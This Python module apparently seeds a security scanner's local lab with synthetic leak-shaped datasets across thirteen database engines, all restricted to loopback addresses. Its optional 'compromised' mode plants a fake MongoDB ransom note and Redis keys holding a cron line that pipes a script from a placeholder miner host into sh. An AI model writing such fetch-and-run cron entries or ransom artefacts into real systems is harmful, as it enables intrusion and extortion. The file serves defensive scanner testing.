"""Seed one lab engine with its synthetic, leak-shaped dataset (see :mod:`ajar.lab.generator`).

Usage::

    python -m ajar.lab.seed ENGINE --host 127.0.0.2 [--port N] [--user U --password P] [--seed S]

ENGINE is one of: mongodb, redis, postgres, mariadb, mqtt, memcached, etcd, influxdb,
clickhouse, zookeeper, opensearch, s3, couchdb. Seeding is the lab's job and writes; the scanner never
does. Every function drops/overwrites its own dataset first, so re-seeding is idempotent.
Prints one JSON line ``{"engine": ..., "host": ..., "counts": {dataset: n}}`` on stdout.

Datasets (default sizes):

* mongodb: db ``watchlist``: ``people`` 2000, ``sightings`` 5000 (GeoJSON ``location``, ``ts``
  at ``--per-minute`` records per minute ending now, the writer's rate), ``checkins`` 500
  (``lat``/``lng``).
* redis: session cache, db 0: 200 ``session:<token>`` hashes, 100 ``user:<id>`` JSON strings,
  list ``recent_logins`` (50), set ``online_users`` (40), zset ``failed_logins`` (30), stream
  ``audit`` (60); db 2: 20 ``cart:<id>`` strings. 323 keys in total.
* postgres: database ``crm``: ``customers`` 1000, ``orders`` 300.
* mariadb: database ``shop``: ``customers`` 1000, ``orders`` 300.
* mqtt: 20 retained messages on ``vehicles/<imei>/gps``; ``--live`` keeps publishing one fix per
  vehicle every second until killed.
* memcached: 200 ``session:<token>`` JSON values.
* etcd: 10 keys under ``/app/prod/`` (secrets) + 20 ``/app/users/<id>``;
  ``--enable-auth`` (with ``--user root --password P``) then turns authentication on.
* influxdb: database ``telemetry``, measurement ``gps``: 10 devices x 100 points;
  with ``--user/--password`` it first creates that admin user (locked instance).
* clickhouse: database ``analytics``: ``events`` 2000, ``customers`` 1000.
* zookeeper: 10 secret znodes under ``/app/prod/`` + 20 ``/app/users/<id>``.
* opensearch: index ``app-logs`` 2000 docs, index ``customers`` 1000 docs (``--user/--password``:
  HTTP Basic, for the locked one behind :mod:`ajar.lab.gateway`).
* couchdb: database ``customers`` (1000 docs, ``_id`` = ``customer:<id>``) and ``orders`` (300).
* s3: bucket ``customer-exports`` (ACL public-read, like a leaky bucket): ``customers.csv``,
  ``customers.ndjson`` (1000 rows each), ``orders.json`` (300), each object public-read.
"""

from __future__ import annotations

import argparse
import base64
import csv
import datetime as dt
import io
import json
import logging
import socket
import sys
import time
from collections.abc import Callable
from decimal import Decimal
from typing import Any

from ajar.lab.generator import UTC, Generator

log = logging.getLogger("ajar.lab.seed")

DEFAULT_PORTS = {
    "mongodb": 27017,
    "redis": 6379,
    "postgres": 5432,
    "mariadb": 3306,
    "mqtt": 1883,
    "memcached": 11211,
    "etcd": 2379,
    "influxdb": 8086,
    "clickhouse": 9000,
    "zookeeper": 2181,
    "opensearch": 9200,
    "s3": 4566,
    "couchdb": 5984,
}

Counts = dict[str, int]


# ------------------------------------------------------------------------------ mongodb
def seed_mongodb(
    host: str,
    port: int = 27017,
    *,
    seed: int = 2026,
    people: int = 2000,
    sightings: int = 5000,
    checkins: int = 500,
    per_minute: float = 60.0,
    now: dt.datetime | None = None,
) -> Counts:
    """Surveillance shape in database ``watchlist`` (see module docstring)."""
    from pymongo import MongoClient

    gen = Generator(seed)
    now = now or dt.datetime.now(UTC)
    ppl = gen.people(people)
    client: MongoClient[dict[str, Any]] = MongoClient(
        host, port, directConnection=True, serverSelectionTimeoutMS=5000, tz_aware=True
    )
    try:
        db = client["watchlist"]
        for name in ("people", "sightings", "checkins"):
            db.drop_collection(name)
        db.people.insert_many(ppl)
        db.sightings.insert_many(gen.sightings(ppl, sightings, per_minute=per_minute, now=now))
        db.checkins.insert_many(gen.checkins(ppl, checkins, now=now))
        return {
            "watchlist.people": db.people.count_documents({}),
            "watchlist.sightings": db.sightings.count_documents({}),
            "watchlist.checkins": db.checkins.count_documents({}),
        }
    finally:
        client.close()


# ------------------------------------------------------------------------------ compromise
#: A synthetic ransom note of the kind left in open MongoDB servers since 2017. The Bitcoin
#: address is made up (it has the shape, no wallet has it); the contact is a reserved domain.
RANSOM_NOTE = (
    "All your data is backed up. You must pay 0.015 BTC to 1AjarLabFakeRansomAddre5sXyZ12345 "
    "within 48 hours to recover it. After paying, email restore@example.org with your server IP."
)
#: The cron line crypto-mining campaigns write into open Redis servers (via CONFIG SET dir);
#: synthetic: the address is a reserved, unresolvable domain.
CRON_PAYLOAD = "\n\n*/1 * * * * root curl -fsSL http://miner.example.invalid/init.sh | sh\n\n"


def seed_ransom_mongodb(host: str, port: int = 27017) -> Counts:
    """The 2019 shape: a ransom note database beside a collection wiped to zero."""
    from pymongo import MongoClient

    client: MongoClient[dict[str, Any]] = MongoClient(host, port, directConnection=True, serverSelectionTimeoutMS=5000)
    try:
        note_db = client["READ_ME_TO_RECOVER_YOUR_DATA"]
        note_db.drop_collection("README")
        note_db["README"].insert_one({"content": RANSOM_NOTE, "db": "crm"})
        crm = client["crm"]
        crm.drop_collection("customers")
        crm["customers"].insert_one({"wiped": True})
        crm["customers"].delete_many({})  # an emptied collection, as the attackers leave it
        return {"READ_ME_TO_RECOVER_YOUR_DATA.README": 1, "crm.customers": crm["customers"].count_documents({})}
    finally:
        client.close()


def seed_redis_cron(host: str, port: int = 6379, *, password: str | None = None) -> Counts:
    """Keys ``backup1``..``backup4`` holding the cron payload of a Redis crypto-mining campaign."""
    import redis

    r = redis.Redis(host, port, db=0, password=password, socket_timeout=5)
    try:
        for i in range(1, 5):
            r.set(f"backup{i}", CRON_PAYLOAD)
        return {"db0.backup": 4}
    finally:
        r.close()


# ------------------------------------------------------------------------------ redis
def seed_redis(host: str, port: int = 6379, *, password: str | None = None, seed: int = 2026) -> Counts:
    import redis

    gen = Generator(seed)
    clients: dict[int, redis.Redis] = {}
    counts: Counts = {}
    try:
        for db, kind, key, value in gen.redis_cache():
            r = clients.get(db)
            if r is None:
                r = clients[db] = redis.Redis(host, port, db=db, password=password, socket_timeout=5)
                r.flushdb()
            if kind == "hash":
                r.hset(key, mapping=value)
            elif kind == "string":
                r.set(key, value)
            elif kind == "list":
                r.rpush(key, *value)
            elif kind == "set":
                r.sadd(key, *value)
            elif kind == "zset":
                r.zadd(key, value)
            elif kind == "stream":
                for entry in value:
                    r.xadd(key, entry)
            counts[f"db{db}.{kind}"] = counts.get(f"db{db}.{kind}", 0) + 1
        for db, r in clients.items():
            counts[f"db{db}.keys"] = int(r.dbsize())
    finally:
        for r in clients.values():
            r.close()
    return counts


# ------------------------------------------------------------------------------ postgres
_CUSTOMER_COLS = ("id", "name", "email", "phone", "address", "birth_date", "card_number", "iban", "created_at")
_ORDER_COLS = ("order_id", "customer_id", "email", "ship_to", "amount_eur", "card_last4")


def seed_postgres(
    host: str, port: int = 5432, *, user: str = "postgres", password: str | None = None, seed: int = 2026
) -> Counts:
    import asyncio

    import asyncpg

    gen = Generator(seed)
    custs = gen.customers(1000)
    orders = gen.orders(custs, 300)

    async def run() -> Counts:
        sys_conn = await asyncpg.connect(
            host=host, port=port, user=user, password=password, database="postgres", timeout=10
        )
        try:
            if not await sys_conn.fetchval("select 1 from pg_database where datname='crm'"):
                await sys_conn.execute("create database crm")
        finally:
            await sys_conn.close()
        conn = await asyncpg.connect(host=host, port=port, user=user, password=password, database="crm", timeout=10)
        try:
            await conn.execute("""
                drop table if exists orders; drop table if exists customers;
                create table customers (id integer primary key, name text, email text, phone text,
                    address text, birth_date date, card_number text, iban text, created_at timestamptz);
                create table orders (order_id text primary key, customer_id integer references customers,
                    email text, ship_to text, amount_eur numeric(10,2), card_last4 text);""")
            await conn.copy_records_to_table(
                "customers",
                columns=_CUSTOMER_COLS,
                records=[
                    (
                        c["id"],
                        c["name"],
                        c["email"],
                        c["phone"],
                        c["address"],
                        dt.date.fromisoformat(c["birth_date"]),
                        c["card_number"],
                        c["iban"],
                        dt.datetime.fromisoformat(c["created_at"]),
                    )
                    for c in custs
                ],
            )
            await conn.copy_records_to_table(
                "orders",
                columns=_ORDER_COLS,
                records=[
                    (
                        o["order_id"],
                        o["customer_id"],
                        o["email"],
                        o["ship_to"],
                        Decimal(str(o["amount_eur"])),
                        o["card_last4"],
                    )
                    for o in orders
                ],
            )
            await conn.execute("analyze customers; analyze orders")
            return {
                "crm.customers": int(await conn.fetchval("select count(*) from customers")),
                "crm.orders": int(await conn.fetchval("select count(*) from orders")),
            }
        finally:
            await conn.close()

    return asyncio.run(run())


# ------------------------------------------------------------------------------ mariadb
def seed_mariadb(
    host: str, port: int = 3306, *, user: str = "root", password: str | None = None, seed: int = 2026
) -> Counts:
    import pymysql

    gen = Generator(seed)
    custs = gen.customers(1000)
    orders = gen.orders(custs, 300)
    conn = pymysql.connect(
        host=host, port=port, user=user, password=password or "", connect_timeout=10, autocommit=True, charset="utf8mb4"
    )
    try:
        cur = conn.cursor()
        cur.execute("create database if not exists shop character set utf8mb4")
        cur.execute("use shop")
        cur.execute("drop table if exists orders")
        cur.execute("drop table if exists customers")
        cur.execute("""create table customers (id int primary key, name varchar(100), email varchar(200),
            phone varchar(40), address varchar(255), birth_date date, card_number varchar(19),
            iban varchar(34), created_at datetime)""")
        cur.execute("""create table orders (order_id varchar(20) primary key, customer_id int, email varchar(200),
            ship_to varchar(255), amount_eur decimal(10,2), card_last4 char(4))""")
        cur.executemany(
            "insert into customers values (%s,%s,%s,%s,%s,%s,%s,%s,%s)",
            [
                (
                    c["id"],
                    c["name"],
                    c["email"],
                    c["phone"],
                    c["address"],
                    c["birth_date"],
                    c["card_number"],
                    c["iban"],
                    c["created_at"][:19].replace("T", " "),
                )
                for c in custs
            ],
        )
        cur.executemany(
            "insert into orders values (%s,%s,%s,%s,%s,%s)", [tuple(o[k] for k in _ORDER_COLS) for o in orders]
        )
        cur.execute("analyze table customers, orders")
        cur.fetchall()
        cur.execute("select (select count(*) from customers), (select count(*) from orders)")
        row = cur.fetchone()
        assert row is not None
        return {"shop.customers": int(row[0]), "shop.orders": int(row[1])}
    finally:
        conn.close()


# ------------------------------------------------------------------------------ mqtt
def seed_mqtt(
    host: str,
    port: int = 1883,
    *,
    user: str | None = None,
    password: str | None = None,
    seed: int = 2026,
    vehicles: int = 20,
    live: bool = False,
    interval: float = 1.0,
    seconds: float | None = None,
) -> Counts:
    """Retained tracker fixes on ``vehicles/<imei>/gps``; with ``live`` keep publishing."""
    import random

    import paho.mqtt.client as mqtt  # type: ignore[import-untyped,unused-ignore]

    gen = Generator(seed)
    fleet = gen.vehicles(vehicles)
    rng = random.Random(f"{seed}:mqtt-live")
    client = mqtt.Client(
        mqtt.CallbackAPIVersion.VERSION2,  # type: ignore[attr-defined,unused-ignore]
        client_id=f"lab-tracker-{host}",
    )
    if user:
        client.username_pw_set(user, password)
    client.connect(host, port, keepalive=30)
    client.loop_start()
    published = 0
    try:
        deadline = None if seconds is None else time.monotonic() + seconds
        while True:
            now = dt.datetime.now(UTC)
            infos = [
                client.publish(
                    f"vehicles/{v['imei']}/gps",
                    json.dumps(gen.tracker_message(rng, v, now), ensure_ascii=False),
                    qos=1,
                    retain=True,
                )
                for v in fleet
            ]
            for info in infos:
                info.wait_for_publish(5)
            published += len(infos)
            if not live or (deadline is not None and time.monotonic() >= deadline):
                break
            time.sleep(interval)
    finally:
        client.loop_stop()
        client.disconnect()
    return {"vehicles/+/gps retained": len(fleet), "published": published}


# ------------------------------------------------------------------------------ memcached
def _mc_cmd(sock: socket.socket, data: bytes) -> bytes:
    sock.sendall(data)
    buf = b""
    while not buf.endswith(b"\r\n"):
        chunk = sock.recv(4096)
        if not chunk:
            break
        buf += chunk
    return buf


def seed_memcached(
    host: str, port: int = 11211, *, user: str | None = None, password: str | None = None, seed: int = 2026
) -> Counts:
    gen = Generator(seed)
    n = 0
    with socket.create_connection((host, port), timeout=5) as s:
        if user:
            cred = f"{user} {password}".encode()
            reply = _mc_cmd(s, b"set auth x 0 %d\r\n%s\r\n" % (len(cred), cred))
            if not reply.startswith(b"STORED"):
                raise PermissionError(f"memcached auth failed: {reply!r}")
        for sess in gen.sessions(200):
            body = json.dumps({k: sess[k] for k in ("user_id", "email", "ip", "user_agent", "created")}).encode()
            reply = _mc_cmd(s, b"set session:%s 0 0 %d\r\n%s\r\n" % (sess["token"].encode(), len(body), body))
            if not reply.startswith(b"STORED"):
                raise RuntimeError(f"memcached set failed: {reply!r}")
            n += 1
    return {"session:*": n}


# ------------------------------------------------------------------------------ etcd
def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def seed_etcd(
    host: str,
    port: int = 2379,
    *,
    user: str | None = None,
    password: str | None = None,
    seed: int = 2026,
    enable_auth: bool = False,
) -> Counts:
    """Put secrets over the v3 JSON gateway. With ``enable_auth``, afterwards create ``user``
    (normally ``root``) with ``password``, grant it the root role and enable authentication."""
    import httpx

    gen = Generator(seed)
    base = f"http://{host}:{port}/v3"
    headers: dict[str, str] = {}
    with httpx.Client(timeout=10) as h:
        if user and not enable_auth:
            r = h.post(f"{base}/auth/authenticate", json={"name": user, "password": password})
            if r.status_code == 200 and "token" in r.json():
                headers["Authorization"] = r.json()["token"]
        items = dict(gen.secrets())
        for c in gen.customers(20):
            items[f"/app/users/{c['id']}"] = json.dumps(
                {k: c[k] for k in ("name", "email", "phone", "address")}, ensure_ascii=False
            )
        for k, v in items.items():
            h.post(f"{base}/kv/put", headers=headers, json={"key": _b64(k), "value": _b64(v)}).raise_for_status()
        if enable_auth:
            if not user or not password:
                raise ValueError("--enable-auth needs --user and --password")
            for path, body in (
                ("auth/user/add", {"name": user, "password": password}),
                ("auth/user/grant", {"user": user, "role": "root"}),
                ("auth/enable", {}),
            ):
                h.post(f"{base}/{path}", json=body).raise_for_status()
    return {"keys": len(items)}


# ------------------------------------------------------------------------------ influxdb
def _lp_tag(v: str) -> str:
    return v.replace("\\", "\\\\").replace(",", "\\,").replace("=", "\\=").replace(" ", "\\ ")


def seed_influxdb(
    host: str,
    port: int = 8086,
    *,
    user: str | None = None,
    password: str | None = None,
    seed: int = 2026,
    create_admin: bool = True,
) -> Counts:
    import httpx

    gen = Generator(seed)
    base = f"http://{host}:{port}"
    auth = {"u": user, "p": password} if user else {}
    with httpx.Client(timeout=15) as h:
        if user and create_admin:
            # On a fresh auth-enabled server the first admin may be created anonymously.
            r = h.post(
                f"{base}/query", data={"q": f"CREATE USER \"{user}\" WITH PASSWORD '{password}' WITH ALL PRIVILEGES"}
            )
            if r.status_code not in (200, 401):
                r.raise_for_status()
        h.post(f"{base}/query", params=auth, data={"q": "DROP DATABASE telemetry"}).raise_for_status()
        h.post(f"{base}/query", params=auth, data={"q": "CREATE DATABASE telemetry"}).raise_for_status()
        pts = gen.telemetry(10, 100)
        lines = [
            f"gps,device_id={_lp_tag(p['device_id'])},owner_email={_lp_tag(p['owner_email'])} "
            f"lat={p['lat']},lon={p['lon']},battery={p['battery']} {int(p['time'].timestamp() * 1e9)}"
            for p in pts
        ]
        h.post(
            f"{base}/write", params={"db": "telemetry", **auth}, content="\n".join(lines).encode()
        ).raise_for_status()
    return {"telemetry.gps": len(lines)}


# ------------------------------------------------------------------------------ clickhouse
def seed_clickhouse(
    host: str, port: int = 9000, *, user: str = "default", password: str | None = None, seed: int = 2026
) -> Counts:
    from clickhouse_driver import Client

    gen = Generator(seed)
    c = Client(host, port=port, user=user, password=password or "", connect_timeout=10)
    try:
        c.execute("CREATE DATABASE IF NOT EXISTS analytics")
        c.execute("DROP TABLE IF EXISTS analytics.events")
        c.execute("DROP TABLE IF EXISTS analytics.customers")
        c.execute(
            "CREATE TABLE analytics.events (user_id UInt32, email String, ip String, event String, "
            "ts DateTime) ENGINE = MergeTree ORDER BY ts"
        )
        c.execute(
            "CREATE TABLE analytics.customers (id UInt32, name String, email String, phone String, "
            "address String, birth_date Date, card_number String, iban String) "
            "ENGINE = MergeTree ORDER BY id"
        )
        ev = gen.events(2000)
        c.execute(
            "INSERT INTO analytics.events (user_id, email, ip, event, ts) VALUES",
            [(e["user_id"], e["email"], e["ip"], e["event"], e["ts"].replace(tzinfo=None)) for e in ev],
        )
        custs = gen.customers(1000)
        c.execute(
            "INSERT INTO analytics.customers VALUES",
            [
                (
                    x["id"],
                    x["name"],
                    x["email"],
                    x["phone"],
                    x["address"],
                    dt.date.fromisoformat(x["birth_date"]),
                    x["card_number"] or "",
                    x["iban"] or "",
                )
                for x in custs
            ],
        )
        return {
            "analytics.events": int(c.execute("SELECT count() FROM analytics.events")[0][0]),
            "analytics.customers": int(c.execute("SELECT count() FROM analytics.customers")[0][0]),
        }
    finally:
        c.disconnect()


# ------------------------------------------------------------------------------ zookeeper
def seed_zookeeper(host: str, port: int = 2181, *, seed: int = 2026, deadline: float = 90.0) -> Counts:
    """Seed a ZooKeeper; a session is tried until ``deadline`` seconds have passed (a JVM that has
    only just opened its port on a busy 2-core machine can take a while to accept sessions)."""
    from kazoo.client import KazooClient
    from kazoo.handlers.threading import KazooTimeoutError

    logging.getLogger("kazoo").setLevel(logging.CRITICAL)
    gen = Generator(seed)
    end = time.monotonic() + deadline
    while True:
        z = KazooClient(f"{host}:{port}", timeout=10)
        try:
            z.start(min(20.0, max(1.0, end - time.monotonic())))
            break
        except KazooTimeoutError:
            z.close()
            if time.monotonic() >= end:
                raise
    try:
        if z.exists("/app"):
            z.delete("/app", recursive=True)
        items = dict(gen.secrets())
        for c in gen.customers(20):
            items[f"/app/users/{c['id']}"] = json.dumps(
                {k: c[k] for k in ("name", "email", "phone", "address")}, ensure_ascii=False
            )
        for k, v in items.items():
            z.create(k, v.encode(), makepath=True)
        return {"znodes": len(items)}
    finally:
        z.stop()
        z.close()


# ------------------------------------------------------------------------------ opensearch
def seed_opensearch(
    host: str, port: int = 9200, *, user: str | None = None, password: str | None = None, seed: int = 2026
) -> Counts:
    import httpx

    gen = Generator(seed)
    base = f"http://{host}:{port}"
    counts: Counts = {}
    auth = (user, password or "") if user else None
    with httpx.Client(timeout=30, auth=auth, trust_env=False) as h:
        for index, docs in (("app-logs", gen.app_logs(2000)), ("customers", gen.customers(1000))):
            h.delete(f"{base}/{index}")
            body = "".join(
                json.dumps({"index": {"_index": index}}) + "\n" + json.dumps(d, ensure_ascii=False) + "\n" for d in docs
            )
            r = h.post(
                f"{base}/_bulk?refresh=true", content=body.encode(), headers={"Content-Type": "application/x-ndjson"}
            )
            r.raise_for_status()
            if r.json().get("errors"):
                raise RuntimeError(f"bulk errors in {index}")
            counts[index] = int(h.get(f"{base}/{index}/_count").json()["count"])
    return counts


# ------------------------------------------------------------------------------ s3 (moto)
def seed_s3(
    host: str, port: int = 4566, *, user: str | None = None, password: str | None = None, seed: int = 2026
) -> Counts:
    import boto3

    gen = Generator(seed)
    s3 = boto3.client(
        "s3",
        endpoint_url=f"http://{host}:{port}",
        region_name="us-east-1",
        aws_access_key_id=user or "testing",
        aws_secret_access_key=password or "testing",
    )
    bucket = "customer-exports"
    custs = gen.customers(1000)
    try:
        s3.create_bucket(Bucket=bucket, ACL="public-read")
    except s3.exceptions.BucketAlreadyOwnedByYou:
        pass
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(custs[0]))
    w.writeheader()
    w.writerows(custs)
    s3.put_object(
        Bucket=bucket, Key="customers.csv", Body=buf.getvalue().encode(), ContentType="text/csv", ACL="public-read"
    )
    s3.put_object(
        Bucket=bucket,
        Key="customers.ndjson",
        Body="".join(json.dumps(c, ensure_ascii=False) + "\n" for c in custs).encode(),
        ContentType="application/x-ndjson",
        ACL="public-read",
    )
    s3.put_object(
        Bucket=bucket,
        Key="orders.json",
        Body=json.dumps(gen.orders(custs, 300)).encode(),
        ContentType="application/json",
        ACL="public-read",
    )
    return {"customers.csv": 1000, "customers.ndjson": 1000, "orders.json": 300}


# ------------------------------------------------------------------------------ couchdb
def seed_couchdb(
    host: str, port: int = 5984, *, user: str | None = None, password: str | None = None, seed: int = 2026
) -> Counts:
    """Databases ``customers`` and ``orders`` over the CouchDB HTTP API (PouchDB Server in the lab)."""
    import httpx

    gen = Generator(seed)
    custs = gen.customers(1000)
    auth = (user, password or "") if user else None
    counts: Counts = {}
    with httpx.Client(base_url=f"http://{host}:{port}", auth=auth, timeout=30, trust_env=False) as h:
        datasets = (
            ("customers", [{"_id": f"customer:{c['id']}", **c} for c in custs]),
            ("orders", [{"_id": f"order:{o['order_id']}", **o} for o in gen.orders(custs, 300)]),
        )
        for db, docs in datasets:
            r = h.delete(f"/{db}")
            if r.status_code not in (200, 404):
                r.raise_for_status()
            h.put(f"/{db}").raise_for_status()
            r = h.post(f"/{db}/_bulk_docs", json={"docs": docs})
            r.raise_for_status()
            bad = [x for x in r.json() if "error" in x]
            if bad:
                raise RuntimeError(f"couchdb bulk errors in {db}: {bad[:3]}")
            counts[db] = int(h.get(f"/{db}").json()["doc_count"])
    return counts


# ------------------------------------------------------------------------------ CLI
def _dispatch(a: argparse.Namespace) -> Counts:
    e, h, p = a.engine, a.host, a.port or DEFAULT_PORTS[a.engine]
    table: dict[str, Callable[[], Counts]] = {
        "mongodb": lambda: {**seed_mongodb(h, p, seed=a.seed, per_minute=a.per_minute),
                            **(seed_ransom_mongodb(h, p) if a.compromised else {})},
        "redis": lambda: {**seed_redis(h, p, password=a.password, seed=a.seed),
                          **(seed_redis_cron(h, p, password=a.password) if a.compromised else {})},
        "postgres": lambda: seed_postgres(h, p, user=a.user or "postgres", password=a.password, seed=a.seed),
        "mariadb": lambda: seed_mariadb(h, p, user=a.user or "root", password=a.password, seed=a.seed),
        "mqtt": lambda: seed_mqtt(h, p, user=a.user, password=a.password, seed=a.seed, live=a.live, seconds=a.seconds),
        "memcached": lambda: seed_memcached(h, p, user=a.user, password=a.password, seed=a.seed),
        "etcd": lambda: seed_etcd(h, p, user=a.user, password=a.password, seed=a.seed, enable_auth=a.enable_auth),
        "influxdb": lambda: seed_influxdb(h, p, user=a.user, password=a.password, seed=a.seed),
        "clickhouse": lambda: seed_clickhouse(h, p, user=a.user or "default", password=a.password, seed=a.seed),
        "zookeeper": lambda: seed_zookeeper(h, p, seed=a.seed),
        "opensearch": lambda: seed_opensearch(h, p, user=a.user, password=a.password, seed=a.seed),
        "s3": lambda: seed_s3(h, p, user=a.user, password=a.password, seed=a.seed),
        "couchdb": lambda: seed_couchdb(h, p, user=a.user, password=a.password, seed=a.seed),
    }
    return table[e]()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m ajar.lab.seed", description=__doc__.split("\n")[0])
    ap.add_argument("engine", choices=sorted(DEFAULT_PORTS))
    ap.add_argument("--host", default="127.0.0.2")
    ap.add_argument("--port", type=int)
    ap.add_argument("--user")
    ap.add_argument("--password")
    ap.add_argument("--seed", type=int, default=2026)
    ap.add_argument(
        "--per-minute",
        type=float,
        default=60.0,
        help="mongodb: sightings per minute in the seeded history (match the writer)",
    )
    ap.add_argument("--live", action="store_true", help="mqtt: keep publishing every second")
    ap.add_argument("--seconds", type=float, help="mqtt --live: stop after this many seconds")
    ap.add_argument("--enable-auth", action="store_true", help="etcd: enable auth after seeding")
    ap.add_argument("--compromised", action="store_true",
                    help="mongodb: add a ransom note and a wiped collection; redis: add cron-job payload keys")
    a = ap.parse_args(argv)
    if not (a.host.startswith("127.") or a.host in ("::1", "localhost")):
        ap.error("the lab seeds loopback addresses only")
    logging.basicConfig(level=logging.INFO, format="%(asctime)s seed %(message)s", stream=sys.stderr)
    logging.getLogger("httpx").setLevel(logging.WARNING)
    t0 = time.monotonic()
    counts = _dispatch(a)
    sys.stdout.write(
        json.dumps(
            {"engine": a.engine, "host": a.host, "counts": counts, "seconds": round(time.monotonic() - t0, 2)},
            ensure_ascii=False,
        )
        + "\n"
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
